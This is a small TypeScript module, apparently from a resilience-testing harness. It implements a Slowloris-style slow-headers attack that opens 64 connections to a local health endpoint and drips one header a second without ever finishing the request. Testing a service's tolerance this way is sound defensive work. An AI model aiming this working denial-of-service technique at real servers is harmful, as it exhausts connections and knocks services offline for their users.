import { type Attack, hold } from "./Attack.js"

const connections = 64
const everyMs = 1_000

/** Sends one header a second and never ends them. */
export const slowHeaders: Attack = (context) =>
  hold(context, connections, (socket) => {
    socket.write("GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    const next = setInterval(() => socket.write("X-Slow: 1\r\n"), everyMs)
    socket.once("close", () => clearInterval(next))
  })
